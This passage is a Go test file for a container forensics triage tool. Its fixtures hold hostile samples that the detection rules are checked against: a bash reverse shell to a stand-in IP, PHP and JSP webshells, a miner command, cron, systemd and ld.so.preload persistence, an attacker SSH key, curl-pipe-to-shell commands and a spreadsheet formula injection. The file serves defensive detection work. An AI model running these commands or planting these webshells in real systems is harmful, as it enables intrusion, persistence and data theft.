@@ -1,0 +1,651 @@
+package analyze
+
+import (
+	"archive/tar"
+	"bytes"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"net/netip"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/dockcase/dockcase/bundle"
+)
+
+const triageTestID = "aaaaaaaaaaaabbbbbbbbbbbbccccccccccccddddddddddddeeeeeeeeeeeeffff"
+
+// triageTestMembers returns a minimal bundle: one running container whose
+// inspect is given, plus extra members.
+func triageTestMembers(t *testing.T, inspect string, extra map[string][]byte) triageMem {
+	t.Helper()
+	m := triageMem{
+		memberContainers:            []byte(`[{"id":"` + triageTestID + `","name":"web","image":"img","state":"running","pid":100}]`),
+		inspectMember(triageTestID): []byte(inspect),
+	}
+	for k, v := range extra {
+		m[k] = v
+	}
+	return m
+}
+
+// triageRun loads the model from the members and runs every rule.
+func triageRun(t *testing.T, m triageMem, opts FindingOptions) []TriageFinding {
+	t.Helper()
+	src := memSource{}
+	for k, v := range m {
+		src[k] = v
+	}
+	h := loadHost(src)
+	h.buildLeases()
+	return runFindings(h, m, opts, findingRules)
+}
+
+func triageIDs(fs []TriageFinding) []string {
+	var out []string
+	for _, f := range fs {
+		out = append(out, f.ID+"|"+f.Title)
+	}
+	return out
+}
+
+func triageHas(fs []TriageFinding, id, titlePart string) *TriageFinding {
+	for i := range fs {
+		if fs[i].ID == id && strings.Contains(fs[i].Title, titlePart) {
+			return &fs[i]
+		}
+	}
+	return nil
+}
+
+func TestConfigRules(t *testing.T) {
+	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},
+	"AppArmorProfile":"unconfined",
+	"HostConfig":{"Privileged":true,"CapAdd":["CAP_SYS_ADMIN","sys_ptrace","NET_RAW","CHOWN"],"NetworkMode":"host","PidMode":"host","IpcMode":"host","UTSMode":"host",
+	  "SecurityOpt":["label=disable"],
+	  "PortBindings":{"80/tcp":[{"HostIp":"","HostPort":"8080"}],"443/tcp":[{"HostIp":"127.0.0.1","HostPort":"8443"}]}},
+	"Config":{"Env":["PATH=/usr/bin","AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY","DB_URL=postgres://app:hunter2@db/app","PASSWORD_FILE=/run/secrets/pw","HOME=/root"]},
+	"Mounts":[{"Type":"bind","Source":"/var/run/docker.sock","Destination":"/var/run/docker.sock","RW":true},
+	          {"Type":"bind","Source":"/etc","Destination":"/host/etc","RW":false},
+	          {"Type":"bind","Source":"/","Destination":"/host","RW":true},
+	          {"Type":"bind","Source":"/srv/data","Destination":"/data","RW":true},
+	          {"Type":"volume","Source":"/var/lib/docker/volumes/x/_data","Destination":"/x","RW":true}]}`
+	fs := triageRun(t, triageTestMembers(t, inspect, nil), FindingOptions{})
+	for _, tc := range []struct {
+		id, title, sev, pointer string
+	}{
+		{"privileged-container", "", SeverityCritical, "/HostConfig/Privileged"},
+		{"dangerous-capability", "SYS_ADMIN", SeverityHigh, "/HostConfig/CapAdd/0"},
+		{"dangerous-capability", "SYS_PTRACE", SeverityHigh, "/HostConfig/CapAdd/1"},
+		{"dangerous-capability", "NET_RAW with host networking", SeverityMedium, "/HostConfig/CapAdd/2"},
+		{"host-pid-namespace", "", SeverityHigh, "/HostConfig/PidMode"},
+		{"host-network-namespace", "", SeverityMedium, "/HostConfig/NetworkMode"},
+		{"host-ipc-namespace", "", SeverityMedium, "/HostConfig/IpcMode"},
+		{"host-uts-namespace", "", SeverityLow, "/HostConfig/UTSMode"},
+		{"docker-socket-mounted", "", SeverityCritical, "/Mounts/0"},
+		{"sensitive-host-mount", "/etc mounted read-only", SeverityMedium, "/Mounts/1"},
+		{"sensitive-host-mount", "/ mounted writable", SeverityCritical, "/Mounts/2"},
+		{"no-new-privileges-missing", "", SeverityLow, "/HostConfig/SecurityOpt"},
+		{"port-published-all-addresses", "80/tcp", SeverityMedium, "/HostConfig/PortBindings/80~1tcp/0"},
+		{"secret-in-environment", "AWS_SECRET_ACCESS_KEY", SeverityMedium, "/Config/Env/1"},
+		{"secret-in-environment", "DB_URL", SeverityMedium, "/Config/Env/2"},
+	} {
+		f := triageHas(fs, tc.id, tc.title)
+		if f == nil {
+			t.Errorf("Findings() has no %s %q; got %q", tc.id, tc.title, triageIDs(fs))
+			continue
+		}
+		if f.Severity != tc.sev || f.Evidence[0].Pointer != tc.pointer || f.Evidence[0].Member != inspectMember(triageTestID) || f.Evidence[0].SHA256 == "" {
+			t.Errorf("%s %q = severity %s, evidence %+v; want %s at %s", tc.id, tc.title, f.Severity, f.Evidence[0], tc.sev, tc.pointer)
+		}
+		if f.ContainerName != "web" || f.Container != triageTestID {
+			t.Errorf("%s names container %q %q", tc.id, f.ContainerName, f.Container)
+		}
+	}
+	for _, bad := range []struct{ id, title string }{
+		{"dangerous-capability", "CHOWN"},
+		{"port-published-all-addresses", "443"},
+		{"sensitive-host-mount", "/srv"},
+		{"sensitive-host-mount", "/var/lib/docker"}, // a named volume, not a bind
+		{"secret-in-environment", "PASSWORD_FILE"},
+		{"secret-in-environment", "PATH"},
+		{"apparmor-unconfined", ""}, // privileged already says it all
+	} {
+		if f := triageHas(fs, bad.id, bad.title); f != nil {
+			t.Errorf("Findings() has a false %s %q", f.ID, f.Title)
+		}
+	}
+	// Secrets never appear in any output.
+	js, _ := json.Marshal(fs)
+	for _, secret := range []string{"wJalrXUtnFEMI", "hunter2"} {
+		if bytes.Contains(js, []byte(secret)) {
+			t.Errorf("the findings JSON holds the secret %q", secret)
+		}
+	}
+	if f := triageHas(fs, "secret-in-environment", "AWS_SECRET_ACCESS_KEY"); f != nil && f.Evidence[0].Text != "AWS_SECRET_ACCESS_KEY=…(redacted, 40 chars)" {
+		t.Errorf("redacted evidence = %q", f.Evidence[0].Text)
+	}
+}
+
+func TestConfigRulesUnprivileged(t *testing.T) {
+	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},"AppArmorProfile":"docker-default",
+	"HostConfig":{"NetworkMode":"bridge","SecurityOpt":["seccomp:unconfined","apparmor=unconfined","no-new-privileges:true"],"CapAdd":["SYS_MODULE"]}}`
+	fs := triageRun(t, triageTestMembers(t, inspect, nil), FindingOptions{})
+	for _, id := range []string{"seccomp-unconfined", "apparmor-unconfined"} {
+		if triageHas(fs, id, "") == nil {
+			t.Errorf("Findings() has no %s; got %q", id, triageIDs(fs))
+		}
+	}
+	if f := triageHas(fs, "dangerous-capability", "SYS_MODULE"); f == nil || f.Severity != SeverityCritical {
+		t.Errorf("SYS_MODULE finding = %+v, want critical", f)
+	}
+	if triageHas(fs, "no-new-privileges-missing", "") != nil {
+		t.Errorf("no-new-privileges:true still reported missing")
+	}
+}
+
+func TestRedactSecrets(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"app --db-password=hunter2 -v", "app --db-password=…(redacted, 7 chars) -v"},
+		{`run --env {"API_TOKEN": "abc123", "HOME": "/root"}`, `run --env {"API_TOKEN": "…(redacted, 6 chars)", "HOME": "/root"}`},
+		{"bash -i >& /dev/tcp/198.18.0.2/4444 0>&1", "bash -i >& /dev/tcp/198.18.0.2/4444 0>&1"},
+		{"KEY=AKIAIOSFODNN7EXAMPLE", "KEY=…(redacted, 20 chars)"},
+	} {
+		if got := RedactSecrets(tc.in); got != tc.want {
+			t.Errorf("RedactSecrets(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
+
+func TestProcessRules(t *testing.T) {
+	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},"HostConfig":{"SecurityOpt":["no-new-privileges"]}}`
+	procs := []map[string]any{
+		{"pid": 90, "ppid": 1, "comm": "containerd-shim", "cmdline": []string{"containerd-shim"}},
+		{"pid": 100, "ppid": 90, "comm": "sh", "cmdline": []string{"/bin/sh", "-c", "bash -i >& /dev/tcp/198.18.0.2/4444 0>&1"}, "container_id": triageTestID},
+		{"pid": 101, "ppid": 100, "comm": "kworker", "cmdline": []string{"/tmp/.x/kworker"}, "exe": "/tmp/.x/kworker (deleted)", "exe_deleted": true, "container_id": triageTestID},
+		{"pid": 102, "ppid": 100, "comm": "xmrig", "cmdline": []string{"./xmrig", "-o", "stratum+tcp://pool.example:3333"}, "exe": "/usr/bin/xmrig", "container_id": triageTestID},
+		{"pid": 103, "ppid": 90, "comm": "python3", "cmdline": []string{"python3", "-c", "import pty; pty.spawn('/bin/sh')"}, "exe": "/usr/bin/python3", "container_id": triageTestID},
+		{"pid": 104, "ppid": 100, "comm": "nginx", "cmdline": []string{"nginx", "-g", "daemon off;"}, "exe": "/usr/sbin/nginx", "container_id": triageTestID},
+	}
+	pj, _ := json.Marshal(procs)
+	fs := triageRun(t, triageTestMembers(t, inspect, map[string][]byte{memberProcesses: pj}), FindingOptions{})
+	for _, tc := range []struct{ id, title string }{
+		{"reverse-shell-process", "pid 100"},
+		{"reverse-shell-process", "pid 103"},
+		{"process-from-tmp", "pid 101"},
+		{"deleted-executable", "pid 101"},
+		{"miner-process", "pid 102"},
+		{"process-outside-init-tree", "pid 103"},
+	} {
+		f := triageHas(fs, tc.id, tc.title)
+		if f == nil {
+			t.Errorf("Findings() has no %s %q; got %q", tc.id, tc.title, triageIDs(fs))
+			continue
+		}
+		if f.Evidence[0].Member != memberProcesses || !strings.HasPrefix(f.Evidence[0].Pointer, "/") {
+			t.Errorf("%s evidence = %+v", tc.id, f.Evidence[0])
+		}
+	}
+	for _, f := range fs {
+		if strings.Contains(f.Title, "pid 104") || strings.Contains(f.Title, "pid 90") || (f.ID == "process-outside-init-tree" && strings.Contains(f.Title, "pid 100")) {
+			t.Errorf("false finding %s %q", f.ID, f.Title)
+		}
+	}
+}
+
+// triageTar builds a tar of the given entries.
+func triageTar(t *testing.T, entries []*tar.Header, bodies map[string][]byte) []byte {
+	t.Helper()
+	var buf bytes.Buffer
+	tw := tar.NewWriter(&buf)
+	for _, h := range entries {
+		body := bodies[h.Name]
+		if h.Typeflag == tar.TypeReg || h.Typeflag == 0 {
+			h.Size = int64(len(body))
+		}
+		if err := tw.WriteHeader(h); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := tw.Write(body); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := tw.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return buf.Bytes()
+}
+
+// triageSavedImage builds a docker save tar with a base layer and a top
+// layer of the given entries.
+func triageSavedImage(t *testing.T, top []byte) []byte {
+	t.Helper()
+	base := triageTar(t, []*tar.Header{{Name: "tmp/.x/kworker", Mode: 0o755, Typeflag: tar.TypeReg}}, map[string][]byte{"tmp/.x/kworker": []byte("base, not the top layer")})
+	man := `[{"Config":"cfg.json","RepoTags":["dockcase/ir:web"],"Layers":["base/layer.tar","top/layer.tar"]}]`
+	return triageTar(t, []*tar.Header{
+		{Name: "base/layer.tar", Mode: 0o644, Typeflag: tar.TypeReg},
+		{Name: "top/layer.tar", Mode: 0o644, Typeflag: tar.TypeReg},
+		{Name: "manifest.json", Mode: 0o644, Typeflag: tar.TypeReg},
+	}, map[string][]byte{"base/layer.tar": base, "top/layer.tar": top, "manifest.json": []byte(man)})
+}
+
+func TestReadTopLayer(t *testing.T) {
+	mtime := time.Date(2026, 11, 28, 9, 0, 0, 0, time.UTC)
+	elf := append([]byte("\x7fELF"), bytes.Repeat([]byte{1}, 100)...)
+	top := triageTar(t, []*tar.Header{
+		{Name: "tmp/", Mode: 0o1777, Typeflag: tar.TypeDir, ModTime: mtime},
+		{Name: "tmp/.x/kworker", Mode: 0o755, Typeflag: tar.TypeReg, ModTime: mtime},
+		{Name: "usr/bin/.wh.passwd", Mode: 0o644, Typeflag: tar.TypeReg, ModTime: mtime},
+		{Name: "var/www/.wh..wh..opq", Mode: 0o644, Typeflag: tar.TypeReg, ModTime: mtime},
+		{Name: "usr/bin/sudo2", Mode: 0o4755, Typeflag: tar.TypeReg, ModTime: mtime},
+		{Name: "etc/evil", Mode: 0o777, Typeflag: tar.TypeSymlink, Linkname: "/etc/shadow", ModTime: mtime},
+	}, map[string][]byte{"tmp/.x/kworker": elf, "usr/bin/sudo2": []byte("x")})
+	l, err := ReadTopLayer(bytes.NewReader(triageSavedImage(t, top)))
+	if err != nil {
+		t.Fatalf("ReadTopLayer() = %v", err)
+	}
+	sum := sha256.Sum256(elf)
+	want := map[string]string{
+		"/tmp":            "dir",
+		"/tmp/.x/kworker": "file 104 " + hex.EncodeToString(sum[:]) + " -rwxr-xr-x (0755)",
+		"/usr/bin/passwd": "whiteout",
+		"/var/www":        "opaque",
+		"/usr/bin/sudo2":  "file 1 2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881 urwxr-xr-x (4755)",
+		"/etc/evil":       "symlink",
+	}
+	if l.Entry != "top/layer.tar" || len(l.Files) != len(want) {
+		t.Fatalf("ReadTopLayer() = entry %q, %d files, want top/layer.tar, %d", l.Entry, len(l.Files), len(want))
+	}
+	for _, f := range l.Files {
+		got := f.Type
+		if f.Type == LayerRegular {
+			got = fmt.Sprintf("file %d %s %s", f.Size, f.SHA256, f.ModeText)
+		}
+		if got != want[f.Path] {
+			t.Errorf("ReadTopLayer() file %q = %q, want %q", f.Path, got, want[f.Path])
+		}
+		if !f.ModTime.Equal(mtime) {
+			t.Errorf("file %q mtime %v, want %v", f.Path, f.ModTime, mtime)
+		}
+	}
+	if _, err := ReadTopLayer(bytes.NewReader(triageTar(t, []*tar.Header{{Name: "x", Typeflag: tar.TypeReg}}, nil))); err == nil {
+		t.Errorf("ReadTopLayer(tar without manifest) = nil error")
+	}
+}
+
+func TestFileRulesLayer(t *testing.T) {
+	elf := append([]byte("\x7fELF"), bytes.Repeat([]byte{2}, 64)...)
+	sum := sha256.Sum256(elf)
+	top := triageTar(t, []*tar.Header{
+		{Name: "tmp/.x/kworker", Mode: 0o755, Typeflag: tar.TypeReg},
+		{Name: "tmp/notes.txt", Mode: 0o644, Typeflag: tar.TypeReg},
+		{Name: "root/.ssh/authorized_keys", Mode: 0o600, Typeflag: tar.TypeReg},
+		{Name: "etc/cron.d/update", Mode: 0o644, Typeflag: tar.TypeReg},
+		{Name: "etc/systemd/system/kworker.service", Mode: 0o644, Typeflag: tar.TypeReg},
+		{Name: "etc/ld.so.preload", Mode: 0o644, Typeflag: tar.TypeReg},
+		{Name: "usr/bin/rootme", Mode: 0o4755, Typeflag: tar.TypeReg},
+		{Name: "var/www/html/up.php", Mode: 0o644, Typeflag: tar.TypeReg},
+		{Name: "var/www/html/index.php", Mode: 0o644, Typeflag: tar.TypeReg},
+		{Name: "usr/local/tomcat/webapps/ROOT/cmd.jsp", Mode: 0o644, Typeflag: tar.TypeReg},
+	}, map[string][]byte{
+		"tmp/.x/kworker":                        elf,
+		"tmp/notes.txt":                         []byte("hello"),
+		"root/.ssh/authorized_keys":             []byte("ssh-ed25519 AAAAC3Nza owner@laptop\nssh-ed25519 AAAAC3Nzb attacker@evil\n"),
+		"etc/cron.d/update":                     []byte("* * * * * root /tmp/.x/kworker\n"),
+		"etc/systemd/system/kworker.service":    []byte("[Service]\nExecStart=/tmp/.x/kworker\n"),
+		"etc/ld.so.preload":                     []byte("/lib/libhide.so\n"),
+		"usr/bin/rootme":                        []byte("x"),
+		"var/www/html/up.php":                   []byte(`<?php @eval(base64_decode($_POST['x'])); ?>`),
+		"var/www/html/index.php":                []byte(`<?php echo "hello"; ?>`),
+		"usr/local/tomcat/webapps/ROOT/cmd.jsp": []byte(`<% Runtime.getRuntime().exec(request.getParameter("c")); %>`),
+	})
+	img := triageSavedImage(t, top)
+	commits, _ := json.Marshal([]map[string]any{{"container": triageTestID, "name": "web", "member": "images/web-aaaaaaaaaaaa.tar", "image_id": "sha256:1"}})
+	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},"HostConfig":{"SecurityOpt":["no-new-privileges"]}}`
+	m := triageTestMembers(t, inspect, map[string][]byte{memberCommits: commits, "images/web-aaaaaaaaaaaa.tar": img})
+	fs := triageRun(t, m, FindingOptions{BadHashes: map[string]bool{hex.EncodeToString(sum[:]): true}})
+	for _, tc := range []struct{ id, path string }{
+		{"executable-in-tmp", "/tmp/.x/kworker"},
+		{"known-bad-hash", "/tmp/.x/kworker"},
+		{"authorized-keys-changed", "/root/.ssh/authorized_keys"},
+		{"cron-persistence", "/etc/cron.d/update"},
+		{"service-persistence", "/etc/systemd/system/kworker.service"},
+		{"ld-so-preload", "/etc/ld.so.preload"},
+		{"suid-sgid-added", "/usr/bin/rootme"},
+		{"webshell", "/var/www/html/up.php"},
+		{"webshell", "/usr/local/tomcat/webapps/ROOT/cmd.jsp"},
+	} {
+		var f *TriageFinding
+		for i := range fs {
+			if fs[i].ID == tc.id && fs[i].File != nil && fs[i].File.Path == tc.path {
+				f = &fs[i]
+			}
+		}
+		if f == nil {
+			t.Errorf("Findings() has no %s for %s; got %q", tc.id, tc.path, triageIDs(fs))
+			continue
+		}
+		e := f.Evidence[0]
+		if e.Member != "images/web-aaaaaaaaaaaa.tar" || e.SHA256 != m.sha256(e.Member) || !strings.Contains(e.Text, "top/layer.tar") {
+			t.Errorf("%s evidence = %+v", tc.id, e)
+		}
+	}
+	if f := triageHas(fs, "authorized-keys-changed", ""); f == nil || !strings.Contains(f.Evidence[0].Text, "ssh-ed25519 attacker@evil") {
+		t.Errorf("authorized_keys evidence does not name the keys: %+v", f)
+	}
+	for _, f := range fs {
+		if f.File != nil && (f.File.Path == "/tmp/notes.txt" || f.File.Path == "/var/www/html/index.php") {
+			t.Errorf("false finding %s on %s", f.ID, f.File.Path)
+		}
+	}
+}
+
+func TestFileRulesDiff(t *testing.T) {
+	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},"HostConfig":{"SecurityOpt":["no-new-privileges"]}}`
+	diff := `[{"Path":"/tmp","Kind":0},{"Path":"/tmp/.x","Kind":1},{"Path":"/tmp/.x/kworker","Kind":1},{"Path":"/root/.ssh/authorized_keys","Kind":0},{"Path":"/etc/ld.so.preload","Kind":1},{"Path":"/var/spool/cron/root","Kind":1},{"Path":"/tmp/gone","Kind":2}]`
+	fs := triageRun(t, triageTestMembers(t, inspect, map[string][]byte{"docker/containers/" + triageTestID + "/diff.json": []byte(diff)}), FindingOptions{})
+	for _, tc := range []struct{ id, title, pointer string }{
+		{"file-in-tmp", "/tmp/.x/kworker", "/2"},
+		{"authorized-keys-changed", "", "/3"},
+		{"ld-so-preload", "", "/4"},
+		{"cron-persistence", "/var/spool/cron/root", "/5"},
+	} {
+		f := triageHas(fs, tc.id, tc.title)
+		if f == nil || f.Evidence[0].Pointer != tc.pointer {
+			t.Errorf("Findings() %s %q = %+v, want evidence at %s; got %q", tc.id, tc.title, f, tc.pointer, triageIDs(fs))
+		}
+	}
+	if f := triageHas(fs, "file-in-tmp", "/tmp/.x\x00"); f != nil {
+		t.Errorf("directory reported as a file")
+	}
+	for _, f := range fs {
+		if strings.Contains(f.Title, "/tmp/gone") || (f.ID == "file-in-tmp" && strings.HasSuffix(f.Title, "/tmp/.x")) {
+			t.Errorf("false finding %s %q", f.ID, f.Title)
+		}
+	}
+}
+
+func TestNetworkRules(t *testing.T) {
+	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100,"StartedAt":"2026-11-28T08:00:00Z"},"HostConfig":{"SecurityOpt":["no-new-privileges"],"NetworkMode":"n"},
+	"NetworkSettings":{"Networks":{"n":{"NetworkID":"nid","IPAddress":"172.20.0.2","IPPrefixLen":16}}}}`
+	ct := `{"entries":[
+	 {"family":"ipv4","proto":"tcp","original":{"src":"172.20.0.2","dst":"198.51.100.7","sport":40000,"dport":3333},"reply":{"src":"198.51.100.7","dst":"192.0.2.1","sport":3333,"dport":40000}},
+	 {"family":"ipv4","proto":"tcp","original":{"src":"172.20.0.2","dst":"198.51.100.7","sport":40001,"dport":3333},"reply":{"src":"198.51.100.7","dst":"192.0.2.1","sport":3333,"dport":40001}},
+	 {"family":"ipv4","proto":"tcp","original":{"src":"172.20.0.2","dst":"198.51.100.7","sport":40002,"dport":3333},"reply":{"src":"198.51.100.7","dst":"192.0.2.1","sport":3333,"dport":40002}},
+	 {"family":"ipv4","proto":"tcp","original":{"src":"172.20.0.2","dst":"203.0.113.9","sport":40003,"dport":443},"reply":{"src":"203.0.113.9","dst":"192.0.2.1","sport":443,"dport":40003}},
+	 {"family":"ipv4","proto":"tcp","original":{"src":"192.0.2.1","dst":"203.0.113.9","sport":40004,"dport":3333},"reply":{"src":"203.0.113.9","dst":"192.0.2.1","sport":3333,"dport":40004}}]}`
+	base := time.Date(2026, 11, 28, 10, 0, 0, 0, time.UTC)
+	var flows []FlowSummary
+	for i := range 8 {
+		jit := time.Duration(i%2) * 300 * time.Millisecond
+		flows = append(flows, FlowSummary{Container: triageTestID, Proto: "tcp", Remote: netip.MustParseAddr("198.18.0.2"), RemotePort: 8443,
+			First: base.Add(time.Duration(i)*30*time.Second + jit), Last: base.Add(time.Duration(i)*30*time.Second + jit + time.Second),
+			Evidence: []Evidence{{Member: "capture/eth0.pcap", Line: i + 1}}})
+	}
+	// Irregular contacts to another destination are not beaconing.
+	for i, d := range []time.Duration{0, 2 * time.Second, 90 * time.Second, 95 * time.Second, 400 * time.Second, 401 * time.Second} {
+		flows = append(flows, FlowSummary{Container: triageTestID, Proto: "tcp", Remote: netip.MustParseAddr("203.0.113.80"), RemotePort: 443, First: base.Add(d), Last: base.Add(d + time.Second),
+			Evidence: []Evidence{{Member: "capture/eth0.pcap", Line: 100 + i}}})
+	}
+	dns := []DNSName{
+		{Container: triageTestID, Name: "x7f3kq9zl2m8wd0pv4ht.evil.example", Time: base},
+		{Container: triageTestID, Name: "www.wikipedia.org", Time: base},
+		{Container: triageTestID, Name: "c2.bad.example", Time: base},
+		{Container: triageTestID, Name: "aaaaaaaaaaaaaaaaaaaaaaaa.example.com", Time: base},
+	}
+	m := triageTestMembers(t, inspect, map[string][]byte{memberConntrack: []byte(ct)})
+	fs := triageRun(t, m, FindingOptions{Flows: flows, DNS: dns, IOCs: []string{"198.51.100.0/24", "bad.example", "# comment"}})
+	for _, tc := range []struct{ id, title string }{
+		{"ioc-contact", "198.51.100.0/24"},
+		{"ioc-contact", "bad.example"},
+		{"mining-pool-port", "tcp port 3333"},
+		{"repeated-contact", "198.51.100.7:3333 (3"},
+		{"beaconing", "198.18.0.2:8443 every 30s"},
+		{"dns-high-entropy", "x7f3kq9zl2m8wd0pv4ht"},
+	} {
+		if triageHas(fs, tc.id, tc.title) == nil {
+			t.Errorf("Findings() has no %s %q; got %q", tc.id, tc.title, triageIDs(fs))
+		}
+	}
+	for _, f := range fs {
+		if strings.Contains(f.Title, "203.0.113.80") || strings.Contains(f.Title, "wikipedia") || strings.Contains(f.Title, "aaaaaaaa") ||
+			(f.ID == "mining-pool-port" && f.Container == "") {
+			t.Errorf("false finding %s %q", f.ID, f.Title)
+		}
+	}
+}
+
+func TestImageHistoryRules(t *testing.T) {
+	inspect := `{"Id":"` + triageTestID + `","Name":"/web","Image":"sha256:img1","State":{"Status":"running","Pid":100},"HostConfig":{"SecurityOpt":["no-new-privileges"]}}`
+	images := `[{"id":"sha256:img1","history":[
+	  {"CreatedBy":"/bin/sh -c curl -fsSL https://get.example.com/install.sh | sh"},
+	  {"CreatedBy":"/bin/sh -c wget -q http://203.0.113.5/x.tgz -O /tmp/x.tgz"},
+	  {"CreatedBy":"/bin/sh -c apt-get update && apt-get install -y curl"},
+	  {"CreatedBy":"/bin/sh -c curl -o /tmp/a https://example.com/a && sha256sum -c a.sum"}]},
+	 {"id":"sha256:other","history":[{"CreatedBy":"curl http://x | bash"}]}]`
+	fs := triageRun(t, triageTestMembers(t, inspect, map[string][]byte{memberImages: []byte(images)}), FindingOptions{})
+	if f := triageHas(fs, "image-pipe-to-shell", ""); f == nil || f.Evidence[0].Pointer != "/0/history/0/CreatedBy" {
+		t.Errorf("image-pipe-to-shell = %+v; got %q", f, triageIDs(fs))
+	}
+	if f := triageHas(fs, "image-fetch-bare-ip", ""); f == nil || f.Evidence[0].Pointer != "/0/history/1/CreatedBy" {
+		t.Errorf("image-fetch-bare-ip = %+v; got %q", f, triageIDs(fs))
+	}
+	n := 0
+	for _, f := range fs {
+		if strings.HasPrefix(f.ID, "image-") {
+			n++
+		}
+	}
+	if n != 2 {
+		t.Errorf("%d image findings, want 2: %q", n, triageIDs(fs))
+	}
+}
+
+func TestRulePanicBecomesInternalFinding(t *testing.T) {
+	inspect := `{"Id":"` + triageTestID + `","Name":"/web","State":{"Status":"running","Pid":100},"HostConfig":{"Privileged":true}}`
+	m := triageTestMembers(t, inspect, nil)
+	src := memSource{}
+	for k, v := range m {
+		src[k] = v
+	}
+	h := loadHost(src)
+	rules := []findingRule{
+		{"boom", func(*triage) []TriageFinding { var p *Container; return []TriageFinding{{ID: p.Name}} }},
+		{"configuration", (*triage).configRules},
+	}
+	fs := runFindings(h, m, FindingOptions{MinSeverity: SeverityCritical}, rules)
+	if triageHas(fs, "privileged-container", "") == nil {
+		t.Errorf("the rule after the panicking one did not run: %q", triageIDs(fs))
+	}
+	f := triageHas(fs, "internal-rule-panic", `"boom"`)
+	if f == nil {
+		t.Fatalf("no internal finding for the panicking rule (kept despite --min-severity critical): %q", triageIDs(fs))
+	}
+	if !strings.Contains(f.Title, "nil pointer") || !strings.Contains(f.Evidence[0].Text, "goroutine") {
+		t.Errorf("internal finding = %+v, want the panic and its stack", f)
+	}
+}
+
+func TestParseHashList(t *testing.T) {
+	a := strings.Repeat("a", 64)
+	b := strings.Repeat("B", 64)
+	got, err := ParseHashList(strings.NewReader("# bad\n\n" + a + "  /tmp/x\n" + b + "\n\\" + strings.Repeat("c", 64) + "  odd\\nname\n"))
+	if err != nil {
+		t.Fatalf("ParseHashList() = %v", err)
+	}
+	want := []string{a, strings.ToLower(b), strings.Repeat("c", 64)}
+	var keys []string
+	for k := range got {
+		keys = append(keys, k)
+	}
+	slices.Sort(keys)
+	slices.Sort(want)
+	if !slices.Equal(keys, want) {
+		t.Errorf("ParseHashList() = %v, want %v", keys, want)
+	}
+	for _, bad := range []string{"abc\n", strings.Repeat("g", 64) + "\n", "md5 " + a + "\n"} {
+		if _, err := ParseHashList(strings.NewReader(bad)); err == nil || !strings.Contains(err.Error(), "line 1") {
+			t.Errorf("ParseHashList(%q) = %v, want an error naming line 1", bad, err)
+		}
+	}
+}
+
+func TestSeverity(t *testing.T) {
+	for _, tc := range []struct {
+		in, want string
+		ok       bool
+	}{{"HIGH", "high", true}, {" low", "low", true}, {"severe", "", false}} {
+		got, err := ParseSeverity(tc.in)
+		if got != tc.want || (err == nil) != tc.ok {
+			t.Errorf("ParseSeverity(%q) = %q, %v, want %q", tc.in, got, err, tc.want)
+		}
+	}
+}
+
+func TestTimelineExports(t *testing.T) {
+	at := time.Date(2026, 11, 28, 10, 0, 0, 123456789, time.UTC)
+	evs := []TimelineEvent{
+		{Time: at, Kind: TimeProcessStart, Message: `=HYPERLINK("http://x")`, Source: "processes", Container: "c1", ContainerName: "web",
+			Evidence: &Evidence{Member: memberProcesses, SHA256: "ab", Pointer: "/3"}, Attrs: map[string]string{"pid": "7", "message": "shadow"}},
+		{Time: at.Add(time.Second), Kind: TimeCollectionStep, Message: "step clock", Source: "custody log", Evidence: &Evidence{Member: "custody.jsonl", Line: 1}},
+	}
+	var js bytes.Buffer
+	if err := WriteTimesketch(&js, evs); err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimSpace(js.String()), "\n")
+	if len(lines) != 2 {
+		t.Fatalf("WriteTimesketch() wrote %d lines, want 2", len(lines))
+	}
+	var rec map[string]any
+	if err := json.Unmarshal([]byte(lines[0]), &rec); err != nil {
+		t.Fatal(err)
+	}
+	for k, want := range map[string]any{"message": `=HYPERLINK("http://x")`, "datetime": "2026-11-28T10:00:00.123456Z", "timestamp_desc": TimeProcessStart,
+		"timestamp": float64(at.UnixMicro()), "container_name": "web", "evidence_pointer": "/3", "pid": "7"} {
+		if rec[k] != want {
+			t.Errorf("WriteTimesketch() %s = %v, want %v", k, rec[k], want)
+		}
+	}
+	var csvb bytes.Buffer
+	if err := WriteTimelineCSV(&csvb, evs); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(csvb.String(), `'=HYPERLINK`) || !strings.HasPrefix(csvb.String(), "datetime,timestamp_desc,message") || !strings.Contains(csvb.String(), ",1,") {
+		t.Errorf("WriteTimelineCSV() =\n%s", csvb.String())
+	}
+}
+
+func TestClockNote(t *testing.T) {
+	unsync := `{"wall":"2026-11-28T10:02:43Z","ntp":{"synchronized":false,"state":"TIME_ERROR","status_flags":["STA_UNSYNC"],"est_error_us":16000000,"max_error_us":16000000,"offset_ns":2500000}}`
+	if n := clockNote(triageMem{memberClock: []byte(unsync)}); !strings.Contains(n, "NOT synchronised") || !strings.Contains(n, "±16s") || !strings.Contains(n, "2.5ms") {
+		t.Errorf("clockNote(unsynchronised) = %q", n)
+	}
+	if n := clockNote(triageMem{memberClock: []byte(`{"wall":"2026-11-28T10:02:43Z","ntp":{"synchronized":true}}`)}); n != "" {
+		t.Errorf("clockNote(synchronised) = %q, want empty", n)
+	}
+}
+
+func TestBuildTimeline(t *testing.T) {
+	inspect := `{"Id":"` + triageTestID + `","Name":"/web","Created":"2026-11-28T08:00:00Z","State":{"Status":"paused","Pid":100,"StartedAt":"2026-11-28T08:00:01Z"},"HostConfig":{}}`
+	mtime := time.Date(2026, 11, 28, 9, 30, 0, 0, time.UTC)
